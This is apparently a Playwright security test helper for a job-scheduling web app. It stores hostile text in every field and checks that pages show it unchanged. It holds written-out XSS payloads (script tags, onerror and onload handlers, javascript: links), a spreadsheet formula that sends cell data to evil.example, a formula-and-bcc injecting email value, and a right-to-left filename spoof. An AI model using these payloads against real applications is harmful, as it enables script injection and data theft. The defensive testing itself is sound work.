// Creates a business with an attack in every text, and checks that no page is affected. Every test
// watches `window.__pwned` (see breaches.ts). An `x-pwned` element on a page can only come from a
// hostile text.
import { expect, type Page } from '@playwright/test';
import { type Api, type Client, type Job, type JobCard } from './api.ts';
import type { Day } from './days.ts';

/** A week far from the demo's jobs, so that it shows only the jobs with hostile texts. */
export const hostileWeek: Day = '2031-01-06';

const MARKUP = `"'><img src=x onerror=__pwned=1><script>__pwned=2</script><x-pwned>{{7*7}}`;

/**
 * A hostile text for a field of at least 100 characters. It differs for each field, so that a test
 * can tell the fields apart.
 */
export function markup(field: string): string {
  return field + MARKUP;
}

/** A longer hostile text for fields of 200 characters. It also closes a title and a text area. */
export function longMarkup(field: string): string {
  return `${markup(field)}\${7*7}</title></textarea><svg/onload=__pwned=3><a href=javascript:__pwned=4>x</a>`;
}

export const kinds = {
  /** This text runs when a person clicks it, if the app turns it into a link. */
  link: 'javascript:__pwned=5//0412345678',
  /** This text runs in a spreadsheet that opens a CSV with it. */
  formula: `=HYPERLINK("https://evil.example/?"&A1,"Open")`,
  /** This text looks like another file name, and reverses the text after it. */
  turned: 'Invoice \u202Egpj.exe',
  /** This text has no space at which a line could break. */
  word: 'W'.repeat(200),
} as const;
type Kind = keyof typeof kinds;

/**
 * Returns a valid mail address. A spreadsheet could read it as a formula, and a mail program could
 * read it as an address with further values.
 */
export const hostileEmail = (who: string): string => `=${who}|'calc'!a1?bcc=x&body=y@evil.example`;

export interface HostileBusiness {
  client: Client;
  job: Job;
  /** A completed job that has the job card `card`. */
  done: Job;
  card: JobCard;
  /** One job for each kind of hostile text. The job and its client both contain such a text. */
  others: Record<Kind, Job>;
}

const row = { date: hostileWeek, startTime: '09:00', finishTime: '10:00', regularTime: '1' };

function clientOf(api: Api, text: string): Promise<Client> {
  const short = Array.from(text).slice(0, 100).join('');
  return api.createClient({
    name: text,
    businessName: text,
    address: text,
    phone: short,
    mainContact: text,
    mainContactPhone: short,
    siteContact: text,
    siteContactPhone: short,
  });
}

async function storeSettings(api: Api): Promise<void> {
  await api.patchSettings({
    businessName: longMarkup('Business'),
    businessAddress: longMarkup('Headquarters'),
    businessPhone: markup('Switchboard'),
    businessEmail: hostileEmail('office'),
    businessNumber: markup('ABN'),
  });
}

async function storePeople(api: Api): Promise<void> {
  const people = await api.users();
  for (const username of ['admin', 'worker']) {
    const id = people.find((one) => one.username === username)?.id ?? '';
    await api.patchUser(id, { fullName: longMarkup(username), email: hostileEmail(username) });
  }
  const third = await api.createUser('third.person');
  await api.patchUser(third.id, { username: longMarkup('login'), fullName: kinds.formula });
}

function storeCard(api: Api, jobId: string): Promise<JobCard> {
  return api.createCard(jobId, {
    attentionTo: longMarkup('Attention'),
    contactPhone: markup('Call'),
    jobDescription: longMarkup('Scope'),
    noticeOfCompletion: longMarkup('Notice'),
    orderNo: markup('Order'),
    poNumber: markup('PO'),
    technicianName: longMarkup('Technician'),
    inspectorSignature: longMarkup('Signed'),
    customerSignature: kinds.link,
    workCarriedOut: [{ date: hostileWeek, description: longMarkup('Work') }],
    laborEntries: [{ ...row, serviceman: longMarkup('Serviceman') }],
    materialsUsed: [{ quantity: '1', price: '2', description: longMarkup('Part') }],
  });
}

async function storeOthers(api: Api): Promise<Record<Kind, Job>> {
  const stored = Object.entries(kinds).map(async ([kind, text]) => {
    const { id: clientId } = await clientOf(api, text);
    const slot = { day: hostileWeek, from: '13:00', to: '14:00', clientId, allowOverlap: true };
    const texts = { title: text, description: text, location: text };
    return [kind, await api.createJob({ ...slot, ...texts })] as const;
  });
  return Object.fromEntries(await Promise.all(stored)) as Record<Kind, Job>;
}

/**
 * Stores hostile texts in every field that accepts text, as the administrator `api` and as the
 * worker.
 */
export async function storeHostile(api: Api, worker: Api): Promise<HostileBusiness> {
  await storeSettings(api);
  await storePeople(api);
  const client = await clientOf(api, longMarkup('Client'));
  await api.patchClient(client.id, {
    phone: markup('Phone'),
    address: longMarkup('Street'),
    email: hostileEmail('client'),
    mainContactEmail: hostileEmail('contact'),
  });
  const { id: assignedUserId } = await worker.me();
  const slot = {
    day: hostileWeek,
    from: '09:00',
    to: '10:00',
    clientId: client.id,
    assignedUserId,
  };
  const job = await api.createJob({
    ...slot,
    title: longMarkup('Before'),
    description: longMarkup('Description'),
    location: longMarkup('Location'),
  });
  await api.patchJob(job.id, { title: longMarkup('Job'), description: longMarkup('Details') });
  await worker.verb(job.id, 'request-deletion');
  const done = await api.createJob({
    ...slot,
    from: '11:00',
    to: '12:00',
    title: longMarkup('Done'),
    location: longMarkup('Site'),
    status: 'completed',
  });
  const card = await storeCard(api, done.id);
  return { client, job, done, card, others: await storeOthers(api) };
}

/** Returns all texts of a page: visible text, values of fields, and texts for screen readers. */
function everythingSaid(): string {
  const fields = [
    ...document.querySelectorAll<HTMLInputElement | HTMLTextAreaElement>('input, textarea'),
  ];
  const labels = [...document.querySelectorAll('[aria-label]')].map((one) =>
    one.getAttribute('aria-label'),
  );
  return [document.body.textContent, ...fields.map(({ value }) => value), ...labels].join('\n');
}

/**
 * Returns every element or attribute of a page that only a hostile text can have created, or that
 * could run a script.
 */
function madeByText(): string[] {
  const made: string[] = [];
  const strange =
    'x-pwned, img[src=x], iframe, object, embed, base, meta[http-equiv], body script:not([src])';
  document.querySelectorAll(strange).forEach(({ outerHTML }) => made.push(outerHTML));
  for (const element of document.querySelectorAll('*'))
    for (const { name } of element.attributes)
      if (/^on/i.test(name)) made.push(`${element.tagName} ${name}`);
  for (const link of document.querySelectorAll<HTMLElement>(
    '[href], [src], [action], [formaction]',
  )) {
    for (const name of ['href', 'src', 'action', 'formaction']) {
      const target = link.getAttribute(name);
      if (target === null || link instanceof SVGElement) continue;
      const { protocol, origin } = new URL(target, document.baseURI);
      const isOwn = origin === location.origin;
      const isCall = /^tel:\+?\d+$/.test(target);
      // Allowed: a mail to one address. A hostile text must not add a subject, a body or a CC recipient.
      const isMail = protocol === 'mailto:' && !target.includes('?');
      // Allowed: directions to one address. The address is encoded, so it can neither change the
      // site nor add a parameter.
      const isWay =
        /^https:\/\/(www\.google\.com\/maps\/dir\/\?api=1&destination|maps\.apple\.com\/\?daddr)=[\w%.!~*'()-]*$/.test(
          target,
        );
      if (!isOwn && !isCall && !isMail && !isWay) made.push(`${name}=${target}`);
    }
  }
  // A browser suggests the title of a printed page as its file name.
  if (!/^(([\w &]+ · )?Jobwright|Job Card JC-\d+)$/.test(document.title))
    made.push(`title: ${document.title}`);
  return made;
}

/**
 * Describes by how much a page scrolls sideways, and the last element that is too wide. Empty if
 * the page doesn't scroll.
 */
function sidewaysScroll(): string {
  const { scrollWidth, clientWidth } = document.documentElement;
  // While a page is printed, its width is not that of the screen.
  if (scrollWidth <= clientWidth || matchMedia('print').matches) return '';
  const isTooWide = (one: Element): boolean => one.getBoundingClientRect().right > clientWidth + 1;
  const widest = [...document.querySelectorAll('main *')].findLast(isTooWide);
  return `${scrollWidth} of ${clientWidth} px, ${widest?.outerHTML.slice(0, 200)}`;
}

/** Expects that the page shows all `texts` unchanged, and that none of them created an element. */
export async function expectPlain(page: Page, ...texts: string[]): Promise<void> {
  const missing = async (): Promise<string[]> => {
    const said = await page.evaluate(everythingSaid);
    return texts.filter((text) => !said.includes(text));
  };
  await expect.poll(missing, 'shown as text').toEqual([]);
  expect(await page.evaluate(madeByText), 'the texts create no element').toEqual([]);
  // After a change of the window's size, some parts of the page get their new layout only in a
  // later render.
  await expect.poll(() => page.evaluate(sidewaysScroll), 'scrolls sideways').toBe('');
}
